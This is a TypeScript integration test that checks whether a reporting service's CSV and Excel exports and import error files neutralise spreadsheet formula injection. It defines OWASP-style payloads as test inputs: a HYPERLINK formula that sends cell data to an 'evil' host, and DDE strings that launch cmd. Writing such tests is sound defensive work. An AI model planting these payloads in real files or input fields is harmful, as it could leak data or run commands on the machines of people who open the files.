import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { IMPORTS_QUEUE } from '../../src/jobs/job-names';
import { binaryBody } from '../helpers/binary-body';
import { factories } from '../helpers/factories';
import { eventually, ReportTestApp, startReportTestApp } from '../helpers/report-jobs';
import { AuthedHttp } from '../helpers/users';

const API = '/api/v1';

/** Texts a spreadsheet would run as formulas (OWASP's examples), typed where a user may type them. */
const TITLE = '=HYPERLINK("http://evil"&A1,"clic")';
const AUTHORITY = `@SUM(1+1)*cmd|' /C calc'!A0`;
const REFERENCE = `-2+3+cmd|' /C calc'!A0`;
const CODE = '+HYPERLINK("http://evil")';
const TABBED = '\t=1+1';
const RETURNED = '\r=1+1';

/** What a spreadsheet program reads as a formula: a text starting so, unless it is just a number. */
const runnable = (text: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) && !/^[+-]?\d+(?:[.,]\d+)?(?: ?%)?$/.test(text);

const csvTable = (text: string) => parse(text, { bom: true, delimiter: ';', relax_column_count: true }) as string[][];

async function workbookOf(body: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb;
}

/** Every cell of every sheet, with where it is. */
function cellsOf(wb: ExcelJS.Workbook): { where: string; cell: ExcelJS.Cell }[] {
  const cells: { where: string; cell: ExcelJS.Cell }[] = [];
  for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push({ where: `${ws.name}!${cell.address}`, cell })));
  return cells;
}

/** No cell is a formula, and no text cell would be read as one. */
function expectNothingRunnable(wb: ExcelJS.Workbook): void {
  const bad = cellsOf(wb)
    .filter(({ cell }) => cell.type === ExcelJS.ValueType.Formula || (typeof cell.value === 'string' && runnable(cell.value)))
    .map(({ where, cell }) => `${where}: ${JSON.stringify(cell.value)}`);
  expect(bad).toEqual([]);
}

describe('formula injection: every CSV and spreadsheet the service writes shows a formula-like text as text', () => {
  let t: ReportTestApp;
  let fac: AuthedHttp;

  beforeAll(async () => {
    t = await startReportTestApp();
    t.startWorker();
    t.startWorker({}, IMPORTS_QUEUE);
    const f = factories(t.ds);
    const structure = await f.facilitatorStructure({ departmentCodes: ['93'] });
    const authority = await f.organisation({ name: AUTHORITY, departmentCodes: ['93'] });
    const holder = await f.company();
    const contract = await f.contract({ contractingAuthorityId: authority.id, holderId: holder.id, reference: REFERENCE });
    await f.insertionClause(contract.id, { targetMode: 'fixed', fixedHoursX100: 100_000 });
    const person = await f.beneficiary({ registeredById: structure.id });
    await f.criterion({ beneficiaryId: person.id });
    const a = await f.assignment({ beneficiaryId: person.id, contractId: contract.id, employerId: holder.id });
    await f.statement({ assignmentId: a.id, contractId: contract.id, month: '2026-03-01', hoursX100: 12_050 });
    fac = await t.as('facilitator', structure.id);
    // A facilitator sets the title through the API, as the attacker did.
    await fac.patch(`${API}/contracts/${contract.id}`).send({ title: TITLE }).expect(200);
  });
  afterAll(() => t.close());

  describe('the report files, made by the report job', () => {
    let csv: string;
    let xlsx: ExcelJS.Workbook;

    beforeAll(async () => {
      const requested = await fac.post(`${API}/reports`).send({ scope: { kind: 'department', code: '93' }, period: { month: '2026-03' } }).expect(202);
      const id = requested.body.id as string;
      await eventually(async () => {
        const r = await fac.get(`${API}/reports/${id}`).expect(200);
        if (r.body.status === 'failed') throw new Error(`report failed: ${r.body.error}`);
        return r.body.status === 'completed';
      }, 'the report');
      csv = (await fac.get(`${API}/reports/${id}/files/csv`).expect(200)).text;
      xlsx = await workbookOf((await fac.get(`${API}/reports/${id}/files/xlsx`).buffer(true).parse(binaryBody).expect(200)).body as Buffer);
    });

    it('CSV: the title, reference and authority come out quoted as text; the figures stay numbers', () => {
      const rows = csvTable(csv);
      const contract = rows.find((r) => r.includes(`'${TITLE}`));
      expect(contract?.slice(0, 4)).toEqual([`'${REFERENCE}`, `'${TITLE}`, '93', `'${AUTHORITY}`]);
      expect(contract?.[7]).toBe('120,5');
      expect(rows.find((r) => r[0] === `'${AUTHORITY}`)?.[4]).toBe('120,5');
      expect(rows.flat().filter(runnable)).toEqual([]);
    });

    it('XLSX: the same texts as text cells with the quote, no formula anywhere; the figures are number cells', () => {
      const contracts = xlsx.getWorksheet('Marchés')!;
      expect([1, 2, 4].map((c) => contracts.getRow(2).getCell(c).value)).toEqual([`'${REFERENCE}`, `'${TITLE}`, `'${AUTHORITY}`]);
      expect(contracts.getRow(2).getCell(8).value).toBe(120.5);
      expect(xlsx.getWorksheet('Acheteurs')!.getRow(2).getCell(1).value).toBe(`'${AUTHORITY}`);
      expectNothingRunnable(xlsx);
    });
  });

  describe('the imports: refused rows come back neutralised, by the import job', () => {
    const waitAnalysed = (id: string) =>
      eventually(async () => {
        const r = await fac.get(`${API}/imports/${id}`).expect(200);
        return ['analysed', 'failed'].includes(r.body.status) ? r.body : null;
      }, `import ${id} to be analysed`);

    it('hours CSV: every formula-like cell of the refused row is quoted; a negative number stays a number', async () => {
      const header = ['code_beneficiaire', 'reference_marche', 'mois', 'heures', 'source', 'commentaire'];
      const row = [CODE, REFERENCE, '2026-03', '-5', '@releve', TABBED];
      const quoted = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
      const file = Buffer.from(`\uFEFF${[header, row, [CODE, TITLE, '2026-04', '-12,5', 'releve_entreprise', RETURNED]].map((r) => r.map(quoted).join(';')).join('\r\n')}\r\n`);
      const upload = await fac.post(`${API}/imports`).attach('file', file, 'releve.csv').expect(202);
      const imp = await waitAnalysed(upload.body.id);
      expect(imp.summary).toMatchObject({ refused: 2 });
      const back = await fac.get(`${API}/imports/${imp.id}/refused-rows`).expect(200);
      const table = csvTable(back.text);
      expect(table[0]).toEqual([...header, 'erreur']);
      expect(table[1].slice(0, 5)).toEqual([`'${CODE}`, `'${REFERENCE}`, '2026-03', '-5', `'@releve`]);
      expect(table[2].slice(0, 5)).toEqual([`'${CODE}`, `'${TITLE}`, '2026-04', '-12,5', 'releve_entreprise']);
      // The reader may trim the blank before "=1+1": either way it comes back quoted.
      expect([table[1][5], table[2][5]]).toEqual([expect.stringMatching(/^'\s*=1\+1$/), expect.stringMatching(/^'\s*=1\+1$/)]);
      expect(table[1][6]).toMatch(/^ligne 2/);
      expect(table.flat().filter(runnable)).toEqual([]);
    });

    it('onboarding workbook: the refused rows come back as text cells with the quote', async () => {
      const wb = new ExcelJS.Workbook();
      const companies = wb.addWorksheet('entreprises');
      companies.addRow(['siret', 'nom', 'taille']);
      companies.addRow(['12345678901234', TITLE, 'micro']);
      companies.addRow(['98765432109876', AUTHORITY, '-micro']);
      const upload = await fac
        .post(`${API}/imports`)
        .field('kind', 'onboarding')
        .attach('file', Buffer.from(await wb.xlsx.writeBuffer()), 'reprise.xlsx')
        .expect(202);
      const imp = await waitAnalysed(upload.body.id);
      expect(imp.summary).toMatchObject({ refused: 2 });
      const back = await fac.get(`${API}/imports/${imp.id}/refused-rows`).buffer(true).parse(binaryBody).expect(200);
      const refused = (await workbookOf(back.body as Buffer)).getWorksheet('entreprises')!;
      expect(refused.getRow(2).getCell(2).value).toBe(`'${TITLE}`);
      expect([2, 3].map((c) => refused.getRow(3).getCell(c).value)).toEqual([`'${AUTHORITY}`, "'-micro"]);
      expectNothingRunnable(await workbookOf(back.body as Buffer));
    });

    it('the templates hold no formula and no formula-like text', async () => {
      const csv = await fac.get(`${API}/imports/templates/hours-statements.csv`).expect(200);
      expect(csvTable(csv.text).flat().filter(runnable)).toEqual([]);
      for (const name of ['hours-statements.xlsx', 'onboarding.xlsx']) {
        const res = await fac.get(`${API}/imports/templates/${name}`).buffer(true).parse(binaryBody).expect(200);
        expectNothingRunnable(await workbookOf(res.body as Buffer));
      }
    });
  });
});
